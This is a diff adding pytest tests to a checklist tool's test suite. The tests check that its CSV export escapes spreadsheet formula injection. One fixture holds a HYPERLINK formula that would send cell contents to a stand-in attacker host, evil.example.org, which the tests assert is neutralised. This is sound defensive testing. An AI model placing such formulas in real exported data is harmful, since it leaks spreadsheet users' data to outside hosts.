@@ -1,4 +1,4 @@
-"""Hostile input: checklist files and answers files.
+"""Hostile input: checklist files, answers files and CSV export.
 
 Checklist and answers files come from teams, forms and surveys, so nothing
 in them may hang a build, eat the machine's memory, vanish silently, or
@@ -12,6 +12,8 @@ a memory limit), so a regression fails the test instead of hanging it.
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import pickle
 import subprocess
@@ -24,6 +26,7 @@ from pathlib import Path
 import pytest
 from helpers import no_crash, sphinx_build, strip_ansi
 
+from sphinx_ethics import export
 from sphinx_ethics.answers_file import read_answers
 from sphinx_ethics.catalog import load_catalog, validate_file
 from sphinx_ethics.yaml_reading import MAX_BYTES
@@ -460,3 +463,52 @@ def test_catalog_pickles() -> None:
     assert copy.questions["plan-2a"] == catalog.questions["plan-2a"]
     with pytest.raises(TypeError):
         copy.tips["x"] = None  # type: ignore[index]
+
+
+# --------------------------------------------------------------------------
+# CSV export: no formulas
+# --------------------------------------------------------------------------
+
+FORMULAS = textwrap.dedent(
+    """\
+    schema_version: 1
+    source:
+      title: "@SUM(1+1)"
+    checklists:
+      - id: sheet
+        title: Sheet
+        questions:
+          - number: 1
+            text: '=HYPERLINK("https://evil.example.org/?d="&A1, "Click")'
+            prompts: ["+1+1", "-2", "\\tTabbed", "\\rReturn", "Plain = fine"]
+    """
+)
+
+
+def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
+    path = write(tmp_path / "sheet.yaml", FORMULAS)
+    catalog = load_catalog([path])
+    text = export.to_csv(catalog, [catalog.checklists["sheet"]])
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["question"] == '\'=HYPERLINK("https://evil.example.org/?d="&A1, "Click")'
+    assert row["prompts"] == "'+1+1\n-2\n\tTabbed\n\rReturn\nPlain = fine"
+    assert row["source"].startswith("'@SUM(1+1).")
+    assert row["id"] == "sheet-1"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_csv_export_from_the_cli_neutralises_formulas(tmp_path: Path) -> None:
+    write(tmp_path / "sheet.yaml", FORMULAS)
+    args = ("export", "--checklists", "sheet.yaml", "--format", "csv", "sheet")
+    result, _ = cli(*args, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "'=HYPERLINK(" in result.stdout
+    assert ',"=HYPERLINK' not in result.stdout and ",=HYPERLINK" not in result.stdout
+
+
+def test_csv_cell() -> None:
+    assert export.csv_cell("=1+1") == "'=1+1"
+    assert export.csv_cell("-") == "'-"
+    assert export.csv_cell("Who? = them") == "Who? = them"
+    assert export.csv_cell("") == ""
